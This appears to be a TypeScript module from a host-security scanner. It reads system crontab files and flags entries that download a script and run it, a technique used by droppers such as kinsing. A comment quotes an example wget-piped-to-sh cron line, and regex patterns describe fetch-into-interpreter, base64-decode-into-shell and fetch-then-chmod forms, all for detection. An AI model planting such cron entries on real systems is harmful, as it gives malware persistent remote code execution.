import type { CommandFact } from '../engine/types.js';
import { clipped, printable, printableBytes } from './printable.js';

/**
 * Cron entries that fetch a script and run it: how droppers such as kinsing come back after their
 * process is killed (`* * * * * wget -q -O - http://…/pg.sh | sh`, often in the crontab of the
 * database's own account). Read: /etc/crontab, /etc/cron.d/*, /var/spool/cron/crontabs/* — folders
 * only root can write. Each file travels base64-encoded; nothing in it is run.
 */

export interface CronFile {
  readonly path: string;
  readonly text: string;
}

export interface CronDropper {
  readonly path: string;
  readonly line: number;
  /** The line, printable and clipped. */
  readonly entry: string;
}

const READ_CRONTABS = `for f in /etc/crontab /etc/cron.d/* /var/spool/cron/crontabs/*; do
  [ -f "$f" ] || continue
  printf '%s %s\\n' "$(printf '%s' "$f" | base64 -w0)" "$(dd if="$f" iflag=nonblock status=none | base64 -w0)"
done`;

export const cronFilesFact: CommandFact<CronFile[]> = {
  argv: ['sh', '-c', READ_CRONTABS],
  parse: (output) =>
    output.stdout
      .split('\n')
      .filter((line) => line.includes(' '))
      .map((line) => {
        const [path = '', text = ''] = line.split(' ');
        return { path: printableBytes(Buffer.from(path, 'base64')), text: Buffer.from(text, 'base64').toString('utf8') };
      }),
};

const FETCH = String.raw`\b(?:curl|wget|lwp-download|tftp)\b`;
const INTERPRETER = String.raw`(?:\S*/)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|perl|php|node)\b`;
const PIPE_INTO = String.raw`(?<!\|)\|(?!\|)\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?`;

/** Ways a cron line runs what it fetched: piped into a shell, substituted into one, decoded into one, or saved and made executable. */
const DROPPER_FORMS = [
  new RegExp(`${FETCH}.*${PIPE_INTO}${INTERPRETER}`),
  new RegExp(`(?:${INTERPRETER}\\s+(?:-\\S+\\s+)*|(?:source|\\.)\\s+)["']?(?:\\$\\(|\`|<\\()\\s*${FETCH}`),
  new RegExp(`\\bbase64\\s+(?:-\\S*d\\S*|--decode)\\b.*${PIPE_INTO}${INTERPRETER}`),
  new RegExp(`${FETCH}.*(?:&&|;)\\s*chmod\\s+(?:-\\S+\\s+)*(?:[ugoa]*\\+\\w*x|[0-7]{3,4})\\b`),
];

export function isDropperLine(line: string): boolean {
  const entry = line.trim();
  return entry !== '' && !entry.startsWith('#') && DROPPER_FORMS.some((form) => form.test(entry));
}

export function findCronDroppers(files: readonly CronFile[]): CronDropper[] {
  return files.flatMap((file) =>
    file.text.split('\n').flatMap((line, index) => (isDropperLine(line) ? [{ path: file.path, line: index + 1, entry: clipped(printable(line.trim()), 200) }] : [])),
  );
}
